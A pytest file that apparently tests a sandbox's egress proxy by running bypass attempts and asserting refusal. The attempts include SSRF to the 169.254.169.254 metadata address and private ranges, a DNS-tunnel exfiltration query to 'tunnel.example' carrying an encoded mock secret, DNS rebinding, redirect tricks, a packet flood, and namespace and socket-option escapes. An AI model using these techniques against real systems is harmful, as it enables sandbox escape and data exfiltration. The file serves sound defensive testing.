"""Attempts to bypass the egress proxy of a sandbox with egress."""

from __future__ import annotations

import asyncio
import contextlib
import socket
from typing import TYPE_CHECKING

import pytest_asyncio

from attack.sandbox_code import run
from smokebox.egress.address_guard import AddressGuard
from smokebox.egress.message import Response
from smokebox.egress.policy import Egress
from smokebox.engine.jail.network import PORT

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Iterator

    import pytest

    from smokebox.egress.handler import HandlerContext
    from smokebox.egress.message import Request
    from smokebox.engine.host import Host
    from smokebox.engine.sandbox import Sandbox
    from smokebox.isolation import Tier
    from smokebox.types import NetworkEvent

CONNECT = r"""
REQUEST = b"GET / HTTP/1.1\r\nHost: somewhere\r\nConnection: close\r\n\r\n"

def connect(address, port, kind=socket.SOCK_STREAM, data=REQUEST, wait=5):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, kind) as sock:
        sock.settimeout(wait)
        try:
            sock.connect((address, port))
            sock.send(data)
            return sock.recv(100).decode(errors="replace") or "closed"
        except TimeoutError:
            return "timeout"
        except OSError as error:
            return errno.errorcode[error.errno]
"""
REFUSED = {"ECONNREFUSED", "ECONNRESET", "ENETUNREACH", "EHOSTUNREACH", "closed"}


async def greet(request: Request, env: object, context: HandlerContext) -> Response:
    return Response("hello")


@pytest_asyncio.fixture
async def guarded(host: Host, tier: Tier) -> Sandbox:
    """Create a sandbox that may reach one host, served by a handler."""
    return await host.create("guarded", egress={"outbound_by_host": {"api.test": greet}})


@pytest_asyncio.fixture
async def service() -> AsyncIterator[Service]:
    """Run a server on every address of the host."""
    with contextlib.closing(Service()) as service:
        yield service


class Service:
    """A server that must not be reached."""

    def __init__(self) -> None:
        self._sock = socket.create_server(("", 0))
        self._sock.setblocking(False)
        self.port = self._sock.getsockname()[1]

    @property
    def reached(self) -> bool:
        try:
            self._sock.accept()[0].close()
        except BlockingIOError:
            return False
        return True

    def close(self) -> None:
        self._sock.close()


def host_addresses() -> Iterator[str]:
    """Yield the addresses of this host."""
    for info in socket.getaddrinfo(socket.gethostname(), None, type=socket.SOCK_STREAM):
        yield str(info[4][0]).partition("%")[0]


async def network_events(sandbox: Sandbox, count: int) -> list[NetworkEvent]:
    async with asyncio.timeout(10):
        while len(events := await sandbox.egress_proxy.audit_log.read()) < count:
            await asyncio.sleep(0.01)
    return events


async def test_addresses_instead_of_names_are_refused(guarded: Sandbox, service: Service) -> None:
    places = [
        "169.254.169.254",
        "10.0.0.1",
        "192.168.0.1",
        "172.17.0.1",
        "8.8.8.8",
        "2606:4700:4700::1111",
        "fd00:ec2::254",
        *host_addresses(),
    ]
    results = await run(
        guarded,
        CONNECT
        + "port = int(sys.argv[1])\n"
        + "output({f'{a} {p}': connect(a, p) for a in sys.argv[2:] for p in (port, 22)})",
        str(service.port),
        *places,
    )
    assert {place: result for place, result in results.items() if result not in REFUSED} == {}
    assert not service.reached


async def test_web_ports_of_an_address_respond_with_403(guarded: Sandbox) -> None:
    results = await run(
        guarded,
        CONNECT
        + "head = 'GET / HTTP/1.1\\r\\nHost: {}\\r\\n\\r\\n'\n"
        + "def fetch(a):\n    return connect(a.strip('[]'), 80, data=head.format(a).encode())\n"
        + "output([fetch(a) for a in sys.argv[1:]])",
        "169.254.169.254",
        "[2606:4700::1]",
    )
    assert all("403" in result for result in results), results


async def test_loopback_inside_does_not_reach_the_host(guarded: Sandbox, service: Service) -> None:
    results = await run(
        guarded,
        CONNECT + "output([connect(place, int(sys.argv[1])) for place in sys.argv[2:]])",
        str(service.port),
        *("127.0.0.1", "127.0.0.53", "::1", "0.0.0.0", "10.11.0.2", "::ffff:127.0.0.1"),
    )
    assert set(results) == {"ECONNREFUSED"}
    assert not service.reached


async def test_another_sandbox_is_not_reachable(guarded: Sandbox, host: Host) -> None:
    other = await host.create("other", egress=Egress(internet=True))
    serve = "import socket; s = socket.create_server(('', 8080)); print('up', flush=True); "
    serve += "s.accept()[0].send(b'other')"
    process = await other.start_process(["python3", "-c", serve])
    await process.wait_for_log("up", timeout=15)
    results = await run(
        guarded,
        CONNECT + "output([connect(a, 8080) for a in ('10.11.0.2', '10.11.0.1', '198.18.0.1')])",
    )
    assert set(results) <= REFUSED
    await other.destroy()


async def test_ports_of_the_egress_sockets_are_refused(guarded: Sandbox) -> None:
    results = await run(
        guarded,
        CONNECT
        + f"""
results = [connect(a, {PORT}) for a in ("127.0.0.1", "::1", "10.11.0.2", "1.2.3.4")]
results.append(connect("127.0.0.1", {PORT}, socket.SOCK_DGRAM, b"no query", 0.5))
taken = []
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        sock = socket.socket(family, kind)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        taken.append(attempt(sock.bind, (address, {PORT})))
        taken.append(attempt(sock.listen) if kind == socket.SOCK_STREAM else "EADDRINUSE")
output([results, taken])
""",
    )
    assert set(results[0]) <= {*REFUSED, "timeout"}
    assert "done" not in results[1][::2]
    result = await guarded.exec(["curl", "-sS", "https://api.test/"])
    assert result.stdout == "hello", result.stderr


async def test_other_resolvers_are_not_reachable(guarded: Sandbox) -> None:
    results = await run(
        guarded,
        CONNECT
        + r"""
def query(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return b"\0\1\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"

def resolve(address, name, kind=socket.SOCK_DGRAM):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, kind) as sock:
        sock.settimeout(5)
        sock.connect((address, 53))
        size = struct.pack("!H", len(query(name))) if kind == socket.SOCK_STREAM else b""
        sock.send(size + query(name))
        response = sock.recv(600)[len(size):]
        return response[3] & 15

places = ("1.1.1.1", "8.8.8.8", "10.11.0.1", "2606:4700:4700::1111")
secret = "c2VjcmV0" * 7
output([[resolve(place, f"{secret}.tunnel.example") for place in places],
      [resolve(place, "api.test") for place in places],
      resolve("1.1.1.1", "tunnel.example", socket.SOCK_STREAM),
      connect("1.1.1.1", 853), connect("1.1.1.1", 5353, socket.SOCK_DGRAM, b"x")])
""",
    )
    refused, known, by_tcp, by_tls, multicast = results
    assert set(refused) == {3}
    assert set(known) == {0}
    assert by_tcp == 3
    assert by_tls in REFUSED
    assert multicast == "ECONNREFUSED"
    events = await network_events(guarded, 5)
    assert {event.verdict for event in events} == {"refused"}


async def test_datagrams_and_pings_are_refused(guarded: Sandbox) -> None:
    results = await run(
        guarded,
        CONNECT
        + r"""
udp = [connect(a, p, socket.SOCK_DGRAM, b"x") for a in ("1.2.3.4", "2606:4700::1", "10.0.0.1")
       for p in (443, 123, 51820)]
icmp = [attempt(socket.socket, family, kind, protocol)
        for family, protocol in ((socket.AF_INET, 1), (socket.AF_INET6, 58))
        for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM)]
output([udp, icmp])
""",
    )
    assert set(results[0]) == {"ECONNREFUSED"}
    assert "done" not in results[1]


async def test_name_with_private_address_is_refused(
    host: Host, tier: Tier, service: Service, monkeypatch: pytest.MonkeyPatch
) -> None:
    """DNS rebinding: the resolver returns private addresses for an allowed name."""
    found = iter(["127.0.0.1", "169.254.169.254", "10.0.0.1", "::1", "::ffff:127.0.0.1"])

    async def resolve(name: str, port: int) -> list[str]:
        return [next(found)]

    sandbox = await host.create("rebound", egress=Egress(tcp=[f"evil.test:{service.port}"]))
    from smokebox.egress.upstream import UpstreamPool

    monkeypatch.setattr(
        sandbox.egress_proxy,
        "_pool",
        UpstreamPool(AddressGuard(trusts_policy=True), resolver=resolve),
    )
    results = await run(
        sandbox,
        CONNECT
        + "address = socket.gethostbyname('evil.test')\n"
        + "output([connect(address, int(sys.argv[1])) for _ in range(5)])",
        str(service.port),
    )
    assert set(results) <= REFUSED
    events = await network_events(sandbox, 5)
    assert {event.rule for event in events} == {"private"}
    assert not service.reached


async def test_redirect_to_private_address_is_refused(
    host: Host, tier: Tier, service: Service
) -> None:
    async def redirect(request: Request, env: object, context: HandlerContext) -> Response:
        return Response("", 302, {"location": request.url.partition("?")[2]})

    policy = Egress(internet=True, outbound_by_host={"api.test": redirect})
    sandbox = await host.create("redirected", egress=policy)
    curl = ["curl", "-sSLgm10", "-w", " %{http_code}"]
    for place in ("169.254.169.254", "10.0.0.1", "[fd00:ec2::254]"):
        result = await sandbox.exec([*curl, f"https://api.test/?http://{place}/"])
        assert result.stdout.endswith(" 403"), (place, result.stdout, result.stderr)
        assert "a private address" in result.stdout
    for place in host_addresses():
        shown = f"[{place}]" if ":" in place else place
        result = await sandbox.exec([*curl, f"https://api.test/?http://{shown}:{service.port}/"])
        assert result.exit_code != 0, (place, result.stdout)
    assert not service.reached


async def test_unassigned_virtual_address_is_refused(guarded: Sandbox) -> None:
    results = await run(
        guarded, CONNECT + "output([connect(a, 5432) for a in ('198.18.0.200', '198.19.255.254')])"
    )
    assert set(results) <= REFUSED


async def test_flood_of_queries_and_connections_does_not_block_the_engine(
    guarded: Sandbox, host: Host
) -> None:
    flood = r"""
import socket, time
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.setblocking(False)
print("started", flush=True)
socks, until = [], time.monotonic() + 30
while time.monotonic() < until:
    for _ in range(50):
        try:
            udp.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\4evil\0\0\1\0\1", ("9.9.9.9", 53))
        except OSError:
            pass
    sock = socket.socket()
    sock.setblocking(False)
    sock.connect_ex(("1.2.3.4", 9999))
    socks = [*socks[-200:], sock]
"""
    process = await guarded.start_process(["python3", "-c", flood])
    await process.wait_for_log("started", timeout=15)
    neighbour = await host.create("neighbour")
    async with asyncio.timeout(15):
        for _ in range(5):
            assert (await neighbour.exec(["true"])).exit_code == 0
    await process.kill()
    await process.wait_for_exit(timeout=15)
    result = await guarded.exec(["curl", "-sSm10", "https://api.test/"])
    assert result.stdout == "hello", result.stderr


async def test_rules_and_routes_cannot_be_changed(guarded: Sandbox) -> None:
    results = await run(
        guarded,
        r"""
results = {
    "netfilter": attempt(socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, 12),
    "unshare": syscall("unshare", 0x40000000),
    "setns": syscall("setns", os.open("/proc/self/ns/net", os.O_RDONLY), 0x40000000)
    if os.path.exists("/proc/self/ns/net") else "ENOENT",
}
for path in ("/proc/sys/net/ipv4/ip_forward", "/proc/sys/net/ipv4/conf/all/route_localnet"):
    results[path] = attempt(write, path, "1")
output(results)
""",
    )
    assert {what: result for what, result in results.items() if not isinstance(result, str)} == {}
    assert "done" not in results.values()


async def test_socket_options_cannot_bypass_the_rules(guarded: Sandbox, host_kernel: None) -> None:
    results = await run(
        guarded,
        r"""
results = {}
# IPT_SO_SET_REPLACE and IP_TRANSPARENT.
sock = socket.socket()
results["iptables"] = attempt(sock.setsockopt, socket.SOL_IP, 64, b"x" * 100)
results["transparent"] = attempt(sock.setsockopt, socket.SOL_IP, 19, 1)
results["mark"] = attempt(sock.setsockopt, socket.SOL_SOCKET, 36, 1)
results["device"] = attempt(sock.setsockopt, socket.SOL_SOCKET, 25, b"eth0\0")
output(results)
""",
    )
    assert set(results.values()) <= {"EPERM", "EINVAL", "ENOPROTOOPT", "ENODEV"}
